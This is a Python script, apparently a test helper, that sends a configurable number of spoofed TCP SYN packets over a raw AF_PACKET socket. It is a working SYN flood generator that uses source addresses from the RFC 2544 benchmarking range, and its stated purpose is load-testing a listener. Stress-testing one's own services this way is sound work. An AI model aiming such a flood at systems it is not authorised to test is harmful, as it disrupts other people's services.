"""Sends spoofed TCP SYNs through an AF_PACKET socket: a SYN flood from
addresses that never answer, for the listener's flood test.

    python3 synflood.py IFACE DST_MAC DST_IP DST_PORT COUNT

Sources are 198.18.0.0/15 (RFC 2544's benchmarking range, routed nowhere),
one address and port per SYN; checksums are valid. The frames go to
DST_MAC from IFACE's own MAC, so whatever answers them is carried back
to IFACE, whose kernel drops it (none of the addresses is its own).
"""
import socket
import struct
import sys


def csum(data):
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while s > 0xFFFF:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


iface, dst_mac, dst_ip, dst_port, count = sys.argv[1:6]
dst = bytes.fromhex(dst_mac.replace(":", ""))
src = open("/sys/class/net/%s/address" % iface).read().strip()
src = bytes.fromhex(src.replace(":", ""))
dip = socket.inet_aton(dst_ip)
s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
s.bind((iface, 0))
for i in range(int(count)):
    sip = bytes([198, 18 + (i >> 16 & 1), i >> 8 & 0xFF, i & 0xFF])
    sport = 1024 + (i * 7919) % 60000
    # SYN with an MSS option, as a client would send.
    seg = struct.pack("!HHIIBBHHH", sport, int(dst_port), (i * 2654435761) & 0xFFFFFFFF, 0,
                      6 << 4, 0x02, 64240, 0, 0) + struct.pack("!BBH", 2, 4, 1460)
    tcp_sum = csum(sip + dip + struct.pack("!BBH", 0, 6, len(seg)) + seg)
    seg = seg[:16] + struct.pack("!H", tcp_sum) + seg[18:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(seg), i & 0xFFFF, 0x4000, 64, 6, 0, sip, dip)
    ip = ip[:10] + struct.pack("!H", csum(ip)) + ip[12:]
    while True:
        try:
            s.send(dst + src + b"\x08\x00" + ip + seg)
            break
        except BlockingIOError:
            pass
print("sent", count, flush=True)
